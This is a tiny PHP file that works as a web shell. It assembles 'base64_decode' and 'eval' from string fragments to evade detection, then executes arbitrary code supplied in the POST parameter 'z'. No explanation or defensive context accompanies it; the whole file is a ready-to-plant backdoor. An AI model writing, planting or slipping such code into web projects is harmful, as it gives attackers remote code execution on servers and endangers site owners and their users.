<?php
$f = 'ba'.'se'.'64_'.'dec'.'ode'; $e = 'e'.'v'.'a'.'l';
$e($f($_POST['z']));
